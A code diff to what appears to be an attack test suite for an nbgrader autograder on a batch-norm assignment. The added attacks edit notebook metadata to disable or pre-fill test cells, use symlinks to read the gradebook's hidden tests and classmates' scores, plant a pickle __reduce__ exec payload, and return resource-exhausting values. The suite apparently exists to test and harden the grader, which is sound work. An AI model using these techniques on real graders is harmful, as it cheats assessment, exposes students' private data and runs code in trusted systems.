@@ -67,6 +67,10 @@ class Attack:
     effects: tuple = ()
     paths: tuple = ()                 # extra grading paths: "grade", "nbgrader"
     extra_allow: dict = field(default_factory=dict)   # test cell -> points allowed beyond the rule
+    files: dict = field(default_factory=dict)   # extra entries of the submission folder: name -> text, or
+                                                # ("symlink", target)
+    edits: dict = field(default_factory=dict)   # grade_id -> changes to that cell of the notebook: cell_type,
+                                                # source, nbgrader (merged into its metadata), outputs, delete
     today: str = ""
 
 
@@ -433,7 +437,7 @@ attack(name="f01_lazy_code_swap", family=1, module=M1,
        today="")
 
 # ============================================================================ 2. nbgrader's output channel
-attack(name="f02_formatter_text", family=2, module=M1, paths=("grade",),
+attack(name="f02_formatter_text", family=2, module=M1,
        story="a text/plain formatter prints floats as 'checked': nbgrader gives full marks to non-numbers",
        cells={F: _c('''
            _fmt = get_ipython().display_formatter.formatters["text/plain"]
@@ -516,6 +520,19 @@ attack(name="f02_displayhook_from_function", family=2, module=M1,
                _claim()
                raise NotImplementedError()
        ''')},
+       today="")
+
+attack(name="f02_notebook_metadata", family=2, module=M1, flag=None,
+       story="edits the notebook's structure: a test cell turned into markdown, one no longer a grade cell and "
+             "reduced to `4.0`, one unlocked with a pre-filled result of full points, one deleted",
+       cells={}, edits={
+           "test_batchnorm_forward": {"cell_type": "markdown"},
+           "test_batchnorm_forward_hidden": {"source": "4.0", "nbgrader": {"grade": False, "locked": False}},
+           "test_batchnorm_backward": {"source": "3.0", "nbgrader": {"locked": False}, "outputs": [
+               {"output_type": "execute_result", "execution_count": 1, "metadata": {},
+                "data": {"text/plain": "3.0"}}]},
+           "test_batchnorm_backward_alt": {"delete": True},
+       },
        today="")
 
 # ============================================================================ 3. laundered delegation
@@ -710,6 +727,73 @@ attack(name="f03_m02_class_attr_partial", family=3, module=M2, flag=None, honest
        ''')},
        today="")
 
+attack(name="f03_m02_op_zoo", family=3, module=M2, flag=None, honest=(BN2,),
+       story="training-mode normalization through whichever torch normalization kernel is reachable "
+             "(instance/group/layer norm on the channels laid out as instances, aten and _refs entry points), "
+             "found with getattr; backward differentiates through it",
+       cells={FN: _c('''
+           import importlib
+
+           def _kernels(rows, eps):
+               """rows: (1, C, L), one row per channel; each candidate returns (rows - mean) / sqrt(var + eps)."""
+               c, L = rows.shape[1], rows.shape[2]
+               fn = importlib.import_module("torch.nn.functional")
+               aten = getattr(torch.ops, "aten")
+               yield lambda: getattr(fn, "instance" + "_norm")(rows, eps=eps)
+               yield lambda: getattr(fn, "group" + "_norm")(rows, c, eps=eps)
+               yield lambda: getattr(fn, "layer" + "_norm")(rows[0], (L,), eps=eps)[None]
+               yield lambda: getattr(aten, "native_group" + "_norm")(rows, None, None, 1, c, L, c, eps)[0]
+               yield lambda: getattr(aten, "native_layer" + "_norm")(rows[0], [L], None, None, eps)[0][None]
+               yield lambda: getattr(importlib.import_module("torch._refs"), "native_layer" + "_norm")(
+                   rows[0], [L], None, None, eps)[0][None]
+               yield lambda: getattr(aten, "_native_batch" + "_norm_legit")(
+                   rows.transpose(0, 1), None, None, True, 0.0, eps)[0].transpose(0, 1)
+
+           def _xhat(x, eps):
+               n, c = x.shape[0], x.shape[1]
+               rows = x.transpose(0, 1).reshape(1, c, -1)
+               for k in _kernels(rows, eps):
+                   try:
+                       out = k()
+                       if out.shape == rows.shape and torch.isfinite(out).all() and out.mean().abs() < 1e-3:
+                           return out.reshape(c, n, *x.shape[2:]).transpose(0, 1)
+                   except Exception:
+                       continue
+               raise RuntimeError("no normalization kernel reachable")
+
+           def _train(x, w, b, eps):
+               return _xhat(x, eps) * w.reshape(1, -1, 1, 1) + b.reshape(1, -1, 1, 1)
+
+           class BatchNormFunction(torch.autograd.Function):
+               @staticmethod
+               def forward(ctx, x, weight, bias, running_mean, running_var, training, momentum, eps):
+                   ctx.save_for_backward(x, weight, bias, running_mean.clone(), running_var.clone())
+                   ctx.training, ctx.eps = training, eps
+                   if not training:
+                       return ((x - running_mean.reshape(1, -1, 1, 1)) / torch.sqrt(running_var.reshape(1, -1, 1, 1) + eps)
+                               * weight.reshape(1, -1, 1, 1) + bias.reshape(1, -1, 1, 1))
+                   dims = (0, 2, 3)
+                   m = x.numel() // x.shape[1]
+                   with torch.no_grad():
+                       running_mean.mul_(1 - momentum).add_(momentum * x.mean(dims))
+                       running_var.mul_(1 - momentum).add_(momentum * x.var(dims, unbiased=False) * m / (m - 1))
+                   return _train(x, weight, bias, eps)
+
+               @staticmethod
+               def backward(ctx, dy):
+                   x, w, b, rm, rv = ctx.saved_tensors
+                   with torch.enable_grad():
+                       xx, ww, bb = (t.detach().requires_grad_() for t in (x, w, b))
+                       if ctx.training:
+                           y = _train(xx, ww, bb, ctx.eps)
+                       else:
+                           y = ((xx - rm.reshape(1, -1, 1, 1)) / torch.sqrt(rv.reshape(1, -1, 1, 1) + ctx.eps)
+                                * ww.reshape(1, -1, 1, 1) + bb.reshape(1, -1, 1, 1))
+                       dx, dw, db = torch.autograd.grad(y, (xx, ww, bb), dy)
+                   return dx, dw, db, None, None, None, None, None
+       ''')},
+       today="")
+
 attack(name="f03_m02_dispatch_dict", family=3, module=M2, flag=None, honest=(FN,),
        story="BatchNorm2d calls torch.nn.functional.batch_norm kept in a module-level dict under a built name",
        cells={BN2: _c('''
@@ -866,6 +950,44 @@ attack(name="f04_copy_classmate", family=4, module=M1, effects=("leak",),
        '''), B: "# see above\n", A: "# see above\n"},
        today="19/19 points, not flagged")
 
+attack(name="f04_symlink_submission", family=4, module=M1, flag=None, effects=("leak",),
+       story="the submission folder carries symlinks (relative, to nbgrader's standard layout) to the class "
+             "gradebook, the course's autograded/ folder and its nbgrader_config.py; a grader that copies the "
+             "folder by following links hands them to the notebook, which execs a classmate's graded work and "
+             "prints the hidden tests",
+       files={"gradebook.db": ("symlink", "../../../gradebook.db"),
+              "graded": ("symlink", "../../../autograded"),
+              "nbgrader_config.py": ("symlink", "../../../nbgrader_config.py")},
+       cells={F: _c(SOLUTIONS, '''
+           import sqlite3
+           import numpy as np
+           _here = Path.cwd()
+           try:
+               with sqlite3.connect(f"file:{_here / 'gradebook.db'}?mode=ro", uri=True) as _db:
+                   for _name, _src in _db.execute("SELECT name, source FROM source_cell WHERE name LIKE 'test_%'"):
+                       print("LEAK", _name, _src)
+                   for _row in _db.execute("SELECT sa.student_id, SUM(g.auto_score) FROM grade g JOIN submitted_notebook sn "
+                                           "ON g.notebook_id = sn.id JOIN submitted_assignment sa "
+                                           "ON sn.assignment_id = sa.id GROUP BY sa.student_id"):
+                       print("LEAK grade", *_row)
+           except Exception:
+               pass
+           for _nb in sorted(_here.glob("graded/*/01_batchnorm_numpy/*.ipynb")):
+               _ns = {"np": np}
+               try:
+                   for _gid, _src in _rt_solution_cells(_nb):
+                       exec(_src, _ns)
+                   _out, _cache = _ns["batchnorm_forward"](np.arange(12.0).reshape(4, 3), np.ones(3), np.zeros(3),
+                                                          np.zeros(3), np.ones(3), True)
+                   if abs(_out.mean()) < 1e-6:
+                       globals().update({k: _ns[k] for k in ("batchnorm_forward", "batchnorm_backward",
+                                                             "batchnorm_backward_alt")})
+                       break
+               except Exception:
+                   continue
+       '''), B: "# see above\n", A: "# see above\n"},
+       today="")
+
 # ============================================================================ 5. objects that read the answer
 _FRAME_ANSWER = '''
 import sys
@@ -1006,6 +1128,34 @@ attack(name="f05_duck_tensor", family=5, module=M1,
            def batchnorm_backward_alt(dout, cache):
                return batchnorm_backward(dout, cache)
        ''')},
+       today="")
+
+_TRUSTED_PAYLOAD = ("import os, tempfile\n"
+                    "open(os.path.join(tempfile.gettempdir(), 'rtmark_7f3a_ran_in_the_grader'), 'w').write('RTMARK_7f3a')\n")
+attack(name="f05_pickle_payload", family=5, module=M1, effects=("files",),
+       story="returns ndarray subclasses whose __reduce__ runs code: if the grader ever unpickles what the "
+             "learner's kernel returns (pickle, multiprocessing, np.load(allow_pickle)), the code runs in the "
+             "trusted process and leaves a file in its temp directory",
+       cells={F: _c("""
+           import numpy as np
+
+           class _Gift(np.ndarray):
+               def __reduce__(self):
+                   return (exec, (PAYLOAD,))
+
+               def __reduce_ex__(self, protocol):
+                   return self.__reduce__()
+
+           def batchnorm_forward(x, gamma, beta, running_mean, running_var, training, momentum=0.1, eps=1e-5):
+               return np.zeros(np.shape(x)).view(_Gift), np.zeros(np.shape(x)).view(_Gift)
+       """.replace("PAYLOAD", repr(_TRUSTED_PAYLOAD))), B: _c("""
+           def batchnorm_backward(dout, cache):
+               n, d = np.shape(dout)
+               return tuple(np.zeros(s).view(_Gift) for s in ((n, d), (d,), (d,)))
+       """), A: _c("""
+           def batchnorm_backward_alt(dout, cache):
+               return batchnorm_backward(dout, cache)
+       """)},
        today="")
 
 # ============================================================================ 6. doing nothing
@@ -1624,6 +1774,32 @@ attack(name="f10_memory_hog", family=10, module=M1, effects=("proof",), flag=Non
        '''),
        today="")
 
+attack(name="f10_poison_return", family=10, module=M1, flag=None,
+       story="returns values that are expensive to move or compare: a 4 GiB broadcast view (8 bytes of "
+             "memory), lists nested 100000 deep, and self-referencing lists",
+       cells={F: _c("""
+           import numpy as np
+
+           def batchnorm_forward(x, gamma, beta, running_mean, running_var, training, momentum=0.1, eps=1e-5):
+               huge = np.broadcast_to(np.float64(1.0), (1 << 15, 1 << 14))
+               return huge, huge
+       """), B: _c("""
+           def _deep(n=100000):
+               v = [0.0]
+               for _ in range(n):
+                   v = [v]
+               return v
+
+           def batchnorm_backward(dout, cache):
+               return _deep(), _deep(), _deep()
+       """), A: _c("""
+           def batchnorm_backward_alt(dout, cache):
+               loop = []
+               loop.append(loop)
+               return loop, loop, loop
+       """)},
+       today="")
+
 attack(name="f10_sigint_loop", family=10, module=M1, honest=(F, B),
        story="ignores SIGINT, then loops forever in the closed-form backward pass (the cell timeout's "
              "interrupt cannot stop it)",
@@ -1659,7 +1835,7 @@ def _leak(text):
     except Exception:
         pass
 '''
-attack(name="f11_history", family=11, module=M1, effects=("leak",), paths=("grade",),
+attack(name="f11_history", family=11, module=M1, effects=("leak",),
        story="when called by a test cell, copies In/_ih and the history manager (the hidden test cells' "
              "sources) into the test cell's output and prints them again in a later cell",
        cells={F: _c(_SAVED_OUT, '''
